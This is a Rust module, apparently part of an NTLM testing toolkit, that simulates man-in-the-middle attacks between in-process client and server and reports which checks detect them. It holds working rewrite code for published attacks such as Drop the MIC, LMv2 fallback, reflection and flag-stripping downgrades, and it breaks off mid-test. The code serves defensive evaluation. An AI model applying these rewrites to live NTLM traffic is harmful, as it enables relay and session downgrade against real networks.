//! Man-in-the-middle scenarios: a sans-IO attacker between
//! a simulated client and server, built on [`Pair::run_tampered`].
//!
//! Each [`Scenario`] rewrites messages in flight the way a published attack
//! does. [`run`] first runs the same configuration without tampering (the
//! baseline: does this pair work at all?), then with the attacker, and
//! reports which side refused, at which check (the failure's rule id,
//! status and stage), or, when nothing refused, the session that resulted.
//! Nothing is faked: a scenario the simulated peers have no check for is
//! reported as not detected, with the reason.

use std::sync::Arc;

use ntlm_policy::{Failure, LmCompatibilityLevel, MinSessionSecurity, Semantics, Stage};
use ntlm_session::{
    ChannelBindings, Credentials, Exchange, Fixed, MemoryStore, Pair, ReflectionCache,
    SessionReport, Tamper,
};
use ntlm_wire::{
    AuthenticateMessage, AvId, AvPairs, ChallengeMessage, FileTime, MsvAvFlags,
    NegotiateFlags as F, NtlmV2ClientChallenge, NtlmV2Response,
};
use rand_chacha::ChaCha20Rng;
use rand_chacha::rand_core::SeedableRng;

use crate::profiles::Catalog;

/// The user the simulated client logs on as.
pub const USER: &str = "alice";
/// Its domain.
pub const DOMAIN: &str = "TESTDOM";
/// Its password (the server's account holds the same).
pub const PASSWORD: &str = "Passw0rd!";
/// The password an attacker without the credentials uses.
pub const WRONG_PASSWORD: &str = "not-the-password";
/// MD5 of the channel bindings of the TLS channel both peers see
/// (a fixed stand-in: only equality matters to the checks).
pub const CHANNEL_BINDINGS: [u8; 16] = [0xcb; 16];

/// Offset of NegotiateFlags in each message (MS-NLMP 2.2.1.1, 2.2.1.2, 2.2.1.3).
const fn flags_offset(stage: Stage) -> usize {
    match stage {
        Stage::Negotiate => 12,
        Stage::Challenge => 20,
        Stage::Authenticate => 60,
    }
}

/// A man-in-the-middle attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Scenario {
    /// Clear SIGN, SEAL and KEY_EXCH in NEGOTIATE and AUTHENTICATE.
    StripSignSeal,
    /// Clear EXTENDED_SESSIONSECURITY in NEGOTIATE and AUTHENTICATE.
    StripEss,
    /// Clear NEGOTIATE_128 and NEGOTIATE_56 in NEGOTIATE and AUTHENTICATE.
    Strip128,
    /// Set LM_KEY and clear EXTENDED_SESSIONSECURITY in NEGOTIATE.
    InjectLmKey,
    /// Remove MsvAvTimestamp from the CHALLENGE TargetInfo.
    RemoveTimestamp,
    /// Remove the MIC and Version from the AUTHENTICATE (CVE-2019-1040).
    DropMic,
    /// Add MsvAvFlags = 0 pairs to the CHALLENGE TargetInfo (CVE-2019-1166).
    DuplicateAvFlags,
    /// Invalidate the NTLMv2 response while the LMv2 response stays valid (CVE-2019-1338).
    Lmv2Fallback,
    /// Reflect the client's authentication back to its own host (MS08-068).
    Reflection,
    /// Delete MsvAvChannelBindings from the NTLMv2 blob.
    StripChannelBindings,
    /// Zero MsvAvChannelBindings in the NTLMv2 blob.
    ZeroChannelBindings,
    /// A relay without the password: clear the MIC bit and drop the MIC.
    RelayWrongPassword,
}

impl Scenario {
    /// Every scenario, in the order of the attack catalogue.
    pub const ALL: [Self; 12] = [
        Self::StripSignSeal,
        Self::StripEss,
        Self::Strip128,
        Self::InjectLmKey,
        Self::RemoveTimestamp,
        Self::DropMic,
        Self::DuplicateAvFlags,
        Self::Lmv2Fallback,
        Self::Reflection,
        Self::StripChannelBindings,
        Self::ZeroChannelBindings,
        Self::RelayWrongPassword,
    ];

    /// The command-line name.
    pub const fn name(self) -> &'static str {
        match self {
            Self::StripSignSeal => "strip-sign-seal",
            Self::StripEss => "strip-ess",
            Self::Strip128 => "strip-128-56",
            Self::InjectLmKey => "inject-lm-key",
            Self::RemoveTimestamp => "remove-timestamp",
            Self::DropMic => "drop-mic",
            Self::DuplicateAvFlags => "duplicate-av-flags",
            Self::Lmv2Fallback => "lmv2-fallback",
            Self::Reflection => "reflection",
            Self::StripChannelBindings => "strip-channel-bindings",
            Self::ZeroChannelBindings => "zero-channel-bindings",
            Self::RelayWrongPassword => "relay-wrong-password",
        }
    }

    /// The scenario named `name`.
    pub fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|s| s.name() == name)
    }

    /// The public reference.
    pub const fn reference(self) -> &'static str {
        match self {
            Self::StripSignSeal => "Samba Badlock CVE-2016-2110",
            Self::StripEss | Self::Strip128 | Self::InjectLmKey => {
                "Samba Badlock CVE-2016-2110, downgrade"
            }
            Self::RemoveTimestamp => "MS-NLMP 3.1.5.1.2 MIC rule; Samba ntlmssp_server_preauth()",
            Self::DropMic => "CVE-2019-1040 Drop the MIC",
            Self::DuplicateAvFlags => "CVE-2019-1166 Drop the MIC 2",
            Self::Lmv2Fallback => "CVE-2019-1338 LMv2 fallback",
            Self::Reflection => "MS08-068 CVE-2008-4037, KB957097",
            Self::StripChannelBindings | Self::ZeroChannelBindings => {
                "EPA/CBT, MS-NLMP 3.2.5.1.2 channel bindings"
            }
            Self::RelayWrongPassword => {
                "CVE-2019-1040 relay: an acceptor that trusts the MIC alone"
            }
        }
    }

    /// What the attacker changes, in one line.
    pub const fn description(self) -> &'static str {
        match self {
            Self::StripSignSeal => "clear SIGN, SEAL and KEY_EXCH in NEGOTIATE and AUTHENTICATE",
            Self::StripEss => "clear EXTENDED_SESSIONSECURITY in NEGOTIATE and AUTHENTICATE",
            Self::Strip128 => "clear NEGOTIATE_128 and NEGOTIATE_56 in NEGOTIATE and AUTHENTICATE",
            Self::InjectLmKey => {
                "set LM_KEY and clear EXTENDED_SESSIONSECURITY in NEGOTIATE (ESS cleared in AUTHENTICATE)"
            }
            Self::RemoveTimestamp => {
                "remove MsvAvTimestamp from the CHALLENGE so the client sends no MIC"
            }
            Self::DropMic => {
                "remove MIC and Version from AUTHENTICATE (64-byte header), clearing SIGN, \
                 ALWAYS_SIGN, KEY_EXCH and VERSION in it (impacket --remove-mic)"
            }
            Self::DuplicateAvFlags => {
                "add two MsvAvFlags = 0 pairs to the CHALLENGE TargetInfo, so the NTLMv2 blob \
                 carries MsvAvFlags twice"
            }
            Self::Lmv2Fallback => {
                "remove MsvAvTimestamp from the CHALLENGE (the client then sends a real LMv2), \
                 then rewrite the NTLMv2 blob: the server's own AV pairs and trailing 01010101"
            }
            Self::Reflection => {
                "relay the client's NEGOTIATE/AUTHENTICATE to the client's own host and its \
                 CHALLENGE back (no bytes changed)"
            }
            Self::StripChannelBindings => {
                "delete MsvAvChannelBindings from the NTLMv2 blob (server requires CBT)"
            }
            Self::ZeroChannelBindings => {
                "set MsvAvChannelBindings to Z(16) in the NTLMv2 blob (server requires CBT)"
            }
            Self::RelayWrongPassword => {
                "the attacker's client has a wrong password; clear MsvAvFlags 0x2 in the blob \
                 and drop MIC and Version"
            }
        }
    }

    /// The settings and checks that stop it.
    pub const fn defences(self) -> &'static str {
        match self {
            Self::StripSignSeal => {
                "a MIC (the client sends one when the CHALLENGE has MsvAvTimestamp; the server \
                 verifies it); NtlmMinClientSec/NtlmMinServerSec 0x10/0x20 (the client does not \
                 refuse a CHALLENGE lacking the SIGN/SEAL its application requested by itself)"
            }
            Self::StripEss => {
                "a MIC over NEGOTIATE; NtlmMinClientSec/NtlmMinServerSec 0x80000 \
                 (require NTLMv2 session security)"
            }
            Self::Strip128 => {
                "NtlmMinClientSec/NtlmMinServerSec 0x20000000 (require 128-bit); a MIC"
            }
            Self::InjectLmKey => {
                "a MIC over NEGOTIATE; minimum masks 0x20080000 on both sides; LmCompatibilityLevel >= 3"
            }
            Self::RemoveTimestamp => {
                "the server checks that its AV pairs (MsvAvTimestamp included) are echoed in the NTLMv2 blob"
            }
            Self::DropMic => {
                "the server requires a MIC field when MsvAvFlags has 0x2 (CVE-2019-1040 fix)"
            }
            Self::DuplicateAvFlags => {
                "the server refuses duplicate AV pairs in the NTLMv2 blob (CVE-2019-1166 fix); a MIC"
            }
            Self::Lmv2Fallback => {
                "the server never falls back to LMv2 when an NTLMv2 response is present \
                 (CVE-2019-1338 fix); the AV pair echo check"
            }
            Self::Reflection => {
                "a reflection cache of responses the host produced as a client (KB957097); \
                 SMB signing; EPA/CBT; SPN checks"
            }
            Self::StripChannelBindings | Self::ZeroChannelBindings => {
                "NTProofStr covers the blob (any NTLMv2 server); a server requiring CBT \
                 (ApplicationRequiresCBT) refuses clients that send none"
            }
            Self::RelayWrongPassword => "the server verifies NTProofStr whatever MsvAvFlags says",
        }
    }

    /// The channel-binding mode the scenario assumes when none is given.
    pub const fn default_cbt(self) -> Cbt {
        match self {
            Self::StripChannelBindings | Self::ZeroChannelBindings => Cbt::Require,
            _ => Cbt::Ignore,
        }
    }
}

/// The server's channel-binding mode (MS-NLMP 3.2.5.1.2).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Cbt {
    /// The application supplies no bindings.
    Ignore,
    /// Bindings checked when the client sends non-zero ones.
    Accept,
    /// ApplicationRequiresCBT: bindings must be present and match.
    Require,
}

impl Cbt {
    /// The command-line name.
    pub const fn name(self) -> &'static str {
        match self {
            Self::Ignore => "ignore",
            Self::Accept => "accept",
            Self::Require => "require",
        }
    }

    /// The mode named `name`.
    pub fn from_name(name: &str) -> Option<Self> {
        [Self::Ignore, Self::Accept, Self::Require]
            .into_iter()
            .find(|c| c.name() == name)
    }
}

/// The configuration an attack runs against.
#[derive(Debug, Clone)]
pub struct Settings {
    /// Client profile name.
    pub client: String,
    /// Server profile name.
    pub server: String,
    /// NtlmMinClientSec (None: the profile's).
    pub client_min: Option<MinSessionSecurity>,
    /// NtlmMinServerSec (None: the profile's).
    pub server_min: Option<MinSessionSecurity>,
    /// The client's LmCompatibilityLevel (None: the profile's).
    pub client_lm_level: Option<LmCompatibilityLevel>,
    /// The server's LmCompatibilityLevel (None: the profile's).
    pub server_lm_level: Option<LmCompatibilityLevel>,
    /// The application requests integrity.
    pub sign: bool,
    /// The application requests confidentiality.
    pub seal: bool,
    /// Policy semantics.
    pub semantics: Semantics,
    /// Channel-binding mode (None: the scenario's default).
    pub cbt: Option<Cbt>,
}

impl Default for Settings {
    /// windows-11 on both sides, profile defaults, no SIGN/SEAL request.
    fn default() -> Self {
        Self {
            client: String::from("windows-11"),
            server: String::from("windows-11"),
            client_min: None,
            server_min: None,
            client_lm_level: None,
            server_lm_level: None,
            sign: false,
            seal: false,
            semantics: Semantics::default(),
            cbt: None,
        }
    }
}

/// A configuration that cannot be built (unknown profile, wrong role).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackError(pub String);

impl std::fmt::Display for AttackError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for AttackError {}

/// How the exchange under attack ended.
#[derive(Debug, Clone)]
pub enum Outcome {
    /// Both sides established a session: the server's report, and whether
    /// both derived the same ExportedSessionKey.
    Established {
        /// The server's view of the session.
        report: SessionReport,
        /// Both sides hold the same ExportedSessionKey.
        keys_match: bool,
    },
    /// A side refused.
    Refused(Failure),
}

/// The result of one scenario against one configuration.
#[derive(Debug, Clone)]
pub struct AttackResult {
    /// The scenario.
    pub scenario: Scenario,
    /// The channel-binding mode used.
    pub cbt: Cbt,
    /// The stages whose bytes the attacker actually changed.
    pub tampered: Vec<Stage>,
    /// The same configuration without an attacker.
    pub baseline: Outcome,
    /// The exchange under attack.
    pub outcome: Outcome,
    /// Why a scenario cannot be detected by the simulated peers, when that is so.
    pub limitation: Option<&'static str>,
}

impl AttackResult {
    /// The attack was refused by a side while the untampered exchange works.
    pub const fn detected(&self) -> bool {
        matches!(self.baseline, Outcome::Established { .. })
            && matches!(self.outcome, Outcome::Refused(_))
    }

    /// The refusal, when detected.
    pub const fn detection(&self) -> Option<&Failure> {
        match (&self.baseline, &self.outcome) {
            (Outcome::Established { .. }, Outcome::Refused(f)) => Some(f),
            _ => None,
        }
    }

    /// One word: `detected`; `not-detected`; `nothing-to-tamper` (not
    /// detected, but the messages held nothing the attacker changes, e.g.
    /// no SIGN to strip: the session is as weak without the attacker); or
    /// `baseline-fails` (the configuration fails even without an attacker).
    pub fn verdict(&self) -> &'static str {
        match (&self.baseline, &self.outcome) {
            (Outcome::Refused(_), _) => "baseline-fails",
            (_, Outcome::Refused(_)) => "detected",
            _ if self.tampered.is_empty() && self.scenario != Scenario::Reflection => {
                "nothing-to-tamper"
            }
            _ => "not-detected",
        }
    }

    /// What an undetected attack cost compared with the baseline session.
    pub fn downgrade(&self) -> Vec<String> {
        let (
            Outcome::Established { report: b, .. },
            Outcome::Established {
                report: a,
                keys_match,
            },
        ) = (&self.baseline, &self.outcome)
        else {
            return Vec::new();
        };
        let mut v = Vec::new();
        let security = F::NEGOTIATE_SIGN
            | F::NEGOTIATE_SEAL
            | F::NEGOTIATE_KEY_EXCH
            | F::NEGOTIATE_EXTENDED_SESSIONSECURITY
            | F::NEGOTIATE_128
            | F::NEGOTIATE_56;
        let lost = (b.flags & security).difference(a.flags);
        if !lost.is_empty() {
            v.push(format!(
                "lost {}",
                lost.names().collect::<Vec<_>>().join(" | ")
            ));
        }
        if a.flags.contains(F::NEGOTIATE_LM_KEY) && !b.flags.contains(F::NEGOTIATE_LM_KEY) {
            v.push(String::from("LM_KEY session key in use"));
        }
        if a.key_strength_bits() < b.key_strength_bits() {
            v.push(format!(
                "keys weakened from {} to {} bits",
                b.key_strength_bits(),
                a.key_strength_bits()
            ));
        }
        if b.mic && !a.mic {
            v.push(String::from("no MIC verified"));
        }
        if b.response_kind != a.response_kind {
            v.push(format!(
                "response {} instead of {}",
                a.response_kind, b.response_kind
            ));
        }
        if !keys_match {
            v.push(String::from(
                "client and server hold different session keys",
            ));
        }
        v
    }
}

/// Runs `scenario` against `settings`: the baseline, then the attack.
/// `seed` makes the random values reproducible; `now` is the FILETIME.
pub fn run(
    scenario: Scenario,
    settings: &Settings,
    catalog: &Catalog,
    seed: u64,
    now: FileTime,
) -> Result<AttackResult, AttackError> {
    let cbt = settings.cbt.unwrap_or(scenario.default_cbt());
    let baseline = exchange(scenario, settings, catalog, cbt, false)?.run(
        &mut ChaCha20Rng::seed_from_u64(seed),
        now,
        Fixed::default(),
    );
    let mut mitm = Mitm {
        scenario,
        server_target_info: None,
    };
    let attacked = exchange(scenario, settings, catalog, cbt, true)?.run_tampered(
        &mut ChaCha20Rng::seed_from_u64(seed),
        now,
        Fixed::default(),
        &mut mitm,
    );
    let tampered = [
        (Stage::Negotiate, &attacked.negotiate),
        (Stage::Challenge, &attacked.challenge),
        (Stage::Authenticate, &attacked.authenticate),
    ]
    .into_iter()
    .filter(|(_, m)| m.as_ref().is_some_and(|(sent, got)| sent != got))
    .map(|(s, _)| s)
    .collect();
    let outcome = outcome_of(attacked);
    let limitation = match (scenario, &outcome) {
        (Scenario::Reflection, Outcome::Established { .. }) => {
            Some("not detected: the host's reflection cache holds no matching response")
        }
        _ => None,
    };
    Ok(AttackResult {
        scenario,
        cbt,
        tampered,
        baseline: outcome_of(baseline),
        outcome,
        limitation,
    })
}

fn outcome_of(ex: Exchange) -> Outcome {
    match ex.outcome {
        Ok((client, server)) => Outcome::Established {
            keys_match: client.exported_session_key() == server.exported_session_key(),
            report: server.report,
        },
        Err(f) => Outcome::Refused(f),
    }
}

/// The client and server for a run. `attack` selects the attacker's
/// client credentials where the scenario has its own (a wrong password).
fn exchange(
    scenario: Scenario,
    s: &Settings,
    catalog: &Catalog,
    cbt: Cbt,
    attack: bool,
) -> Result<Pair, AttackError> {
    let find = |name: &str| {
        catalog.get(name).ok_or_else(|| {
            AttackError(format!(
                "unknown profile {name:?}; known: {}",
                catalog.names()
            ))
        })
    };
    let cp = find(&s.client)?;
    // MS08-068: the "server" is the client's own host.
    let sp = if scenario == Scenario::Reflection {
        cp
    } else {
        find(&s.server)?
    };
    let password = if attack && scenario == Scenario::RelayWrongPassword {
        WRONG_PASSWORD
    } else {
        PASSWORD
    };
    let mut client = cp
        .client_settings(Credentials::password(USER, DOMAIN, password))
        .ok_or_else(|| AttackError(format!("profile {:?} cannot be a client", cp.name)))?;
    let mut store = MemoryStore::new();
    store.add_password(DOMAIN, USER, PASSWORD);
    let mut server = sp.server_settings(Arc::new(store)).ok_or_else(|| {
        AttackError(if scenario == Scenario::Reflection {
            format!(
                "profile {:?} cannot be a server, so it cannot be the reflected-to host",
                sp.name
            )
        } else {
            format!("profile {:?} cannot be a server", sp.name)
        })
    })?;
    client.semantics = s.semantics;
    server.semantics = s.semantics;
    client.config.integrity = s.sign;
    client.config.confidentiality = s.seal;
    if let Some(m) = s.client_min {
        client.min = m;
    }
    if let Some(m) = s.server_min {
        server.min = m;
    }
    if let Some(l) = s.client_lm_level {
        client.config.lm_level = l;
    }
    if let Some(l) = s.server_lm_level {
        server.config.lm_level = l;
    }
    // MS08-068: the reflected-to host is the client's own, and it remembers
    // the responses its client computed (KB957097). Without the attacker the
    // client talks to another host, which has no such record of them.
    if attack && scenario == Scenario::Reflection {
        let cache = Arc::new(ReflectionCache::default());
        client.reflection = Some(Arc::clone(&cache));
        server.reflection = Some(cache);
    }
    // The client is on the server's TLS channel and binds to it.
    client.channel_bindings = Some(CHANNEL_BINDINGS);
    server.channel_bindings = match cbt {
        Cbt::Ignore => ChannelBindings::Ignore,
        Cbt::Accept => ChannelBindings::Accept(CHANNEL_BINDINGS),
        Cbt::Require => ChannelBindings::Require(CHANNEL_BINDINGS),
    };
    Ok(Pair { client, server })
}

/// The attacker. It never fails: a message it cannot rewrite is delivered unchanged.
struct Mitm {
    scenario: Scenario,
    /// The CHALLENGE TargetInfo as the server sent it (CVE-2019-1338 rewrite).
    server_target_info: Option<Vec<u8>>,
}

impl Tamper for Mitm {
    fn tamper(&mut self, stage: Stage, message: &mut Vec<u8>) {
        if stage == Stage::Challenge {
            self.server_target_info = ChallengeMessage::parse(message)
                .ok()
                .and_then(|c| c.target_info.map(|t| t.through_eol().to_vec()));
        }
        if let Some(new) = self.rewrite(stage, message) {
            *message = new;
        }
    }
}

impl Mitm {
    fn rewrite(&self, stage: Stage, m: &[u8]) -> Option<Vec<u8>> {
        use Scenario as S;
        use Stage::{Authenticate, Challenge, Negotiate};
        match (self.scenario, stage) {
            (S::StripSignSeal, Negotiate | Authenticate) => edit_flags(
                stage,
                m,
                F::NEGOTIATE_SIGN | F::NEGOTIATE_SEAL | F::NEGOTIATE_KEY_EXCH,
                F::empty(),
            ),
            (S::StripEss, Negotiate | Authenticate) => {
                edit_flags(stage, m, F::NEGOTIATE_EXTENDED_SESSIONSECURITY, F::empty())
            }
            (S::Strip128, Negotiate | Authenticate) => {
                edit_flags(stage, m, F::NEGOTIATE_128 | F::NEGOTIATE_56, F::empty())
            }
            (S::InjectLmKey, Negotiate) => edit_flags(
                stage,
                m,
                F::NEGOTIATE_EXTENDED_SESSIONSECURITY,
                F::NEGOTIATE_LM_KEY,
            ),
            // Setting LM_KEY in AUTHENTICATE when the CHALLENGE lacks it would
            // only trip the subset check; the attacker clears ESS only.
            (S::InjectLmKey, Authenticate) => {
                edit_flags(stage, m, F::NEGOTIATE_EXTENDED_SESSIONSECURITY, F::empty())
            }
            (S::RemoveTimestamp | S::Lmv2Fallback, Challenge) => {
                edit_target_info(m, |pairs| pairs.retain(|(id, _)| *id != AvId::TIMESTAMP))
            }
            (S::DuplicateAvFlags, Challenge) => edit_target_info(m, |pairs| {
                pairs.push((AvId::FLAGS, vec![0; 4]));
                pairs.push((AvId::FLAGS, vec![0; 4]));
            }),
            (S::DropMic, Authenticate) => {
                let mut a = AuthenticateMessage::parse(m).ok()?;
                a.mic = None;
                a.version = None;
                a.flags.remove(
                    F::NEGOTIATE_SIGN
                        | F::NEGOTIATE_ALWAYS_SIGN
                        | F::NEGOTIATE_KEY_EXCH
                        | F::NEGOTIATE_VERSION,
                );
                a.to_vec().ok()
            }
            (S::Lmv2Fallback, Authenticate) => {
                // The blob now claims the server's own AV pairs (so the echo
                // check passes) and ends with 01010101 (preempt scan.py), so
                // NTProofStr no longer verifies; LMv2 is untouched.
                let pairs = self.server_target_info.clone();
                edit_blob(m, |blob| {
                    let mut av = match &pairs {
                        Some(p) => p.clone(),
                        None => blob.av_pairs.through_eol().to_vec(),
                    };
                    av.extend_from_slice(&[1, 1, 1, 1]);
                    NtlmV2ClientChallenge::new(
                        blob.timestamp,
                        blob.challenge_from_client,
                        AvPairs::new(av),
                    )
                    .to_vec()
                })
            }
            (S::StripChannelBindings, Authenticate) => edit_blob_pairs(m, |pairs| {
                pairs.retain(|(id, _)| *id != AvId::CHANNEL_BINDINGS);
            }),
            (S::ZeroChannelBindings, Authenticate) => edit_blob_pairs(m, |pairs| {
                for (id, v) in pairs.iter_mut() {
                    if *id == AvId::CHANNEL_BINDINGS {
                        *v = vec![0; 16];
                    }
                }
            }),
            (S::RelayWrongPassword, Authenticate) => {
                let edited = edit_blob_pairs(m, |pairs| {
                    for (id, v) in pairs.iter_mut() {
                        if *id == AvId::FLAGS {
                            if let Ok(b) = <[u8; 4]>::try_from(v.as_slice()) {
                                let f = u32::from_le_bytes(b) & !MsvAvFlags::MIC_PRESENT.bits();
                                *v = f.to_le_bytes().to_vec();
                            }
                        }
                    }
                });
                let bytes = edited.unwrap_or_else(|| m.to_vec());
                let mut a = AuthenticateMessage::parse(&bytes).ok()?;
                a.mic = None;
                a.version = None;
                a.flags.remove(F::NEGOTIATE_VERSION);
                a.to_vec().ok()
            }
            _ => None,
        }
    }
}

/// Clears `clear` and sets `set` in the NegotiateFlags field in place.
fn edit_flags(stage: Stage, m: &[u8], clear: F, set: F) -> Option<Vec<u8>> {
    let off = flags_offset(stage);
    let mut out = m.to_vec();
    let slot = out.get_mut(off..off.checked_add(4)?)?;
    let bytes: [u8; 4] = (&*slot).try_into().ok()?;
    let flags = (u32::from_le_bytes(bytes) & !clear.bits()) | set.bits();
    slot.copy_from_slice(&flags.to_le_bytes());
    Some(out)
}

/// Rebuilds the CHALLENGE TargetInfo after `f` edits its pairs (EOL excluded).
fn edit_target_info(m: &[u8], f: impl FnOnce(&mut Vec<(AvId, Vec<u8>)>)) -> Option<Vec<u8>> {
    let mut c = ChallengeMessage::parse(m).ok()?;
    let ti = c.target_info.take()?;
    let mut pairs: Vec<(AvId, Vec<u8>)> = ti.iter().map(|p| (p.id, p.value.to_vec())).collect();
    f(&mut pairs);
    c.target_info = Some(AvPairs::build(pairs.iter().map(|(i, v)| (*i, v.as_slice()))).ok()?);
    c.to_vec().ok()
}

/// Replaces the NTLMv2 blob of the AUTHENTICATE with `f(blob)`, keeping NTProofStr.
fn edit_blob(m: &[u8], f: impl FnOnce(&NtlmV2ClientChallenge<'_>) -> Vec<u8>) -> Option<Vec<u8>> {
    let mut a = AuthenticateMessage::parse(m).ok()?;
    let nt = a.nt_response.take()?;
    let v2 = NtlmV2Response::parse(&nt).ok()?;
    let mut new_nt = v2.nt_proof_str.to_vec();
    new_nt.extend_from_slice(&f(&v2.client_challenge));
    a.nt_response = Some(new_nt.into());
    a.to_vec().ok()
}

/// Rebuilds the AV pairs of the NTLMv2 blob after `f` edits them (EOL excluded;
/// MS-NLMP 3.3.2's trailing Z(4) kept).
fn edit_blob_pairs(m: &[u8], f: impl FnOnce(&mut Vec<(AvId, Vec<u8>)>)) -> Option<Vec<u8>> {
    let mut failed = false;
    let out = edit_blob(m, |blob| {
        let mut pairs: Vec<(AvId, Vec<u8>)> = blob
            .av_pairs
            .iter()
            .map(|p| (p.id, p.value.to_vec()))
            .collect();
        f(&mut pairs);
        match AvPairs::build(pairs.iter().map(|(i, v)| (*i, v.as_slice()))) {
            Ok(av) => {
                let mut bytes = av.as_bytes().to_vec();
                bytes.extend_from_slice(blob.av_pairs.trailing());
                NtlmV2ClientChallenge::new(
                    blob.timestamp,
                    blob.challenge_from_client,
                    AvPairs::new(bytes),
                )
                .to_vec()
            }
            Err(_) => {
                failed = true;
                Vec::new()
            }
        }
    })?;
    (!failed).then_some(out)
}

/// A named configuration of the matrix.
#[derive(Debug, Clone)]
pub struct Column {
    /// Short name (a table header).
    pub name: &'static str,
    /// The configuration.
    pub settings: Settings,
}

/// The matrix columns derived from `base`: the base itself; SIGN+SEAL
/// requested; server minimum 0x20080000; both minimums 0x20080000;
/// LmCompatibilityLevel 5 on both sides; CBT required; all of these.
pub fn matrix_columns(base: &Settings) -> Vec<Column> {
    let strict = MinSessionSecurity::from_registry(0x2008_0000);
    let level5 = LmCompatibilityLevel::from_u8(5);
    let col = |name, f: &dyn Fn(&mut Settings)| {
        let mut settings = base.clone();
        f(&mut settings);
        Column { name, settings }
    };
    let sign_seal = |s: &mut Settings| {
        s.sign = true;
        s.seal = true;
    };
    let server_min = |s: &mut Settings| s.server_min = Some(strict);
    let both_min = |s: &mut Settings| {
        s.server_min = Some(strict);
        s.client_min = Some(strict);
    };
    let lm5 = |s: &mut Settings| {
        s.client_lm_level = level5.or(s.client_lm_level);
        s.server_lm_level = level5.or(s.server_lm_level);
    };
    let cbt = |s: &mut Settings| s.cbt = Some(Cbt::Require);
    vec![
        col("given", &|_| {}),
        col("sign+seal", &sign_seal),
        col("server-min", &server_min),
        col("both-min", &both_min),
        col("lm-level-5", &lm5),
        col("cbt", &cbt),
        col("all", &|s| {
            sign_seal(s);
            both_min(s);
            lm5(s);
            cbt(s);
        }),
    ]
}

/// One sentence per column name, for the matrix legend.
pub const COLUMN_LEGEND: [(&str, &str); 7] = [
    (
        "given",
        "the options given (profile defaults unless overridden)",
    ),
    ("sign+seal", "the application requests SIGN and SEAL"),
    ("server-min", "NtlmMinServerSec 0x20080000"),
    (
        "both-min",
        "NtlmMinClientSec and NtlmMinServerSec 0x20080000",
    ),
    ("lm-level-5", "LmCompatibilityLevel 5 on both sides"),
    ("cbt", "the server requires channel bindings"),
    ("all", "all of the above"),
];

#[cfg(test)]
mod tests {
    use super::*;

    fn modern() -> Settings {
        Settings {
            sign: true,
            seal: true,
            ..Settings::default()
        }
    }

    fn go(s: Scenario, settings: &Settings) -> AttackResult {
        let catalog = Catalog::builtin().unwrap();
        run(s, settings, &catalog, 1, crate::matrix::MATRIX_TIME).unwrap()
    }

    #[test]
    fn names_round_trip_and_are_unique() {
        for s in Scenario::ALL {
            assert_eq!(Scenario::from_name(s.name()), Some(s));
            assert!(!s.reference().is_empty() && !s.defences().is_empty());
        }
        assert_eq!(Scenario::from_name("nope"), None);
        assert_eq!(Cbt::from_name("require"), Some(Cbt::Require));
    }

    #[test]
    fn modern_baseline_works_for_every_scenario() {
        for s in Scenario::ALL {
            let r = go(s, &modern());
            assert!(
                matches!(
                    r.baseline,
                    Outcome::Established {
                        keys_match: true,
                        ..
                    }
                ),
                "{}",
                s.name()
            );
        }
    }

    #[test]
    fn edit_flags_changes_only_the_named_bits() {
        let m = vec![0u8; 16];
        let out = edit_flags(Stage::Negotiate, &m, F::empty(), F::NEGOTIATE_LM_KEY).unwrap();
        assert_eq!(
            u32::from_le_bytes(out[12..16].try_into().unwrap()),
            F::NEGOTIATE_LM_KEY.bits()
        );
        assert!(edit_flags(Stage::Authenticate, &m, F::all(), F::empty()).is_none());
    }

    #[test]
    fn drop_mic_is_caught_by_the_mic_presence_check() {
        let r = go(Scenario::DropMic, &modern());
        assert_eq!(r.tampered, vec![Stage::Authenticate]);
        assert_eq!(r.detection().unwrap().rule.id, "auth-mic-present");
    }

    #[test]
    fn lmv2_fallback_reaches_the_lmv2_check() {
        let r = go(Scenario::Lmv2Fallback, &modern());
        assert_eq!(r.tampered, vec![Stage::Challenge, Stage::Authenticate]);
        assert_eq!(r.detection().unwrap().rule.id, "auth-no-lmv2-fallback");
    }

    #[test]
    fn reflection_is_refused_by_the_hosts_reflection_cache() {
        let r = go(Scenario::Reflection, &modern());
        assert!(r.detected());
        assert!(r.tampered.is_empty(), "reflection changes no byte");
        assert_eq!(r.detection().unwrap().rule.id, "auth-reflection");
        assert!(r.limitation.is_none());
    }

    #[test]
    fn strength_stripping_without_a_mic_is_not_detected() {
        // A pre-Vista server sends no timestamp, so the client sends no MIC.
        let s = Settings {
            client: String::from("windows-xp"),
            server: String::from("windows-xp"),
            client_min: Some(MinSessionSecurity::from_registry(0)),
            server_min: Some(MinSessionSecurity::from_registry(0)),
            seal: true,
            ..Settings::default()
        };
        let r = go(Scenario::Strip128, &s);
        assert_eq!(r.verdict(), "not-detected");
        assert_eq!(
            r.downgrade(),
            [
                "lost NEGOTIATE_128 | NEGOTIATE_56",
                "keys weakened from 128 to 40 bits"
            ]
        );
        // Without a SEAL request a Windows 2000 client offers neither bit:
        // nothing to strip (XP offers both always, as its public NEGOTIATE shows).
        let r = go(
            Scenario::Strip128,
            &Settings {
                seal: false,
                client: String::from("windows-2000"),
                ..s
            },
        );
        assert_eq!(r.verdict(), "nothing-to-tamper");
    }

    /// The AUTHENTICATE as the server received it under `scenario`.
    fn delivered(scenario: Scenario) -> Vec<u8> {
        let catalog = Catalog::builtin().unwrap();
        let pair = exchange(scenario, &modern(), &catalog, Cbt::Ignore, true).unwrap();
        let mut mitm = Mitm {
            scenario,
            server_target_info: None,
        };
        let ex = pair.run_tampered(
            &mut ChaCha20Rng::seed_from_u64(3),
            crate::matrix::MATRIX_TIME,
            Fixed::default(),
            &mut mitm,
        );
        ex.authenticate.unwrap().1
    }

    #[test]
    fn relay_rewrite_clears_the_mic_bit_and_the_mic() {
        let m = delivered(Scenario::RelayWrongPassword);
        let a = AuthenticateMessage::parse(&m).unwrap();
        assert!(a.mic.is_none() && a.version.is_none());
        let nt = a.nt_response.as_deref().unwrap();
        let v2 = NtlmV2Response::parse(nt).unwrap();
        let flags = v2.client_challenge.av_pairs.flags_union();
        assert!(!flags.contains(MsvAvFlags::MIC_PRESENT));
        // The payload starts right after the 64-byte header.
        let first = [16usize, 24, 32, 40, 48, 56]
            .iter()
            .filter(|&&o| m[o - 4..o - 2] != [0, 0])
